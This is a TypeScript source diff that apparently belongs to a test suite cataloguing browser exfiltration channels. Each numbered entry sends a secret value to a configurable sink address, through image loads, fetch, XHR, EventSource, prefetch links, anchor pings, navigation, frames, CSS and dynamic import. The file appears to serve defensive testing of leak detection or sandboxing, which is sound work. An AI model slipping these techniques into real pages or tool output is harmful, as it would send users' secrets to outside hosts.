@@ -1,0 +1,57 @@
+import { type Attack, row, type Secret, variant } from '../attack.ts';
+
+function address(secret: Secret, name: string): string {
+  return `${secret.sink}${name}?q=${encodeURIComponent(secret.text)}`;
+}
+
+function element<K extends keyof HTMLElementTagNameMap>(name: K, set: Partial<HTMLElementTagNameMap[K]>): HTMLElementTagNameMap[K] {
+  const made = Object.assign(document.createElement(name), set);
+  document.body.append(made);
+  return made;
+}
+
+function image(secret: Secret): void {
+  new Image().src = address(secret, 'image.png');
+}
+
+/** Text that rides in an address: no body, no script call that could be wrapped for most of them. */
+export const ADDRESSES: readonly Attack[] = [
+  row('11', 'image, value in the query', image),
+  variant('11b', 'image by markup', (secret) => {
+    const place = element('div', {});
+    place.innerHTML = `<img src="${address(secret, 'markup.png')}">`;
+  }),
+  variant('11c', 'image, value that nobody wrote', image, { unwritten: true }),
+  variant('11d', 'image, value in base64', (secret) => {
+    new Image().src = `${secret.sink}image.png?d=${btoa(secret.text)}`;
+  }),
+  variant('11e', 'fetch GET, value in the query', (secret) => fetch(address(secret, 'get'))),
+  variant(
+    '11f',
+    'XHR GET, value that nobody wrote',
+    (secret) => {
+      const request = new XMLHttpRequest();
+      request.open('GET', address(secret, 'get'));
+      request.send();
+    },
+    { unwritten: true },
+  ),
+  row('12', 'EventSource, value in the query', (secret) => void new EventSource(address(secret, 'events'))),
+  row('35', 'link rel=prefetch', (secret) => {
+    document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: address(secret, 'prefetch') }));
+  }),
+  row('36', 'a ping', (secret) => element('a', { href: '#there', ping: address(secret, 'ping'), textContent: 'there' }).click()),
+  row('37', 'navigation to ?q=', (secret) => {
+    location.href = address(secret, 'page');
+  }),
+  variant('37b', 'navigation to ?q= by a link', (secret) => element('a', { href: address(secret, 'page'), textContent: 'there' }).click()),
+  variant('37c', 'window.open of ?q=', (secret) => void window.open(address(secret, 'page'))),
+  variant('37d', 'frame with ?q=', (secret) => void element('iframe', { src: address(secret, 'page') })),
+  row('39', 'CSS background address', (secret) => {
+    element('div', { textContent: 'x' }).style.backgroundImage = `url("${address(secret, 'background.png')}")`;
+  }),
+  variant('39b', '@import in a style sheet', (secret) => {
+    document.head.append(Object.assign(document.createElement('style'), { textContent: `@import "${address(secret, 'sheet.css')}";` }));
+  }),
+  row('57', 'import() with the value in the query', (secret) => import(/* @vite-ignore */ address(secret, 'module.js'))),
+];
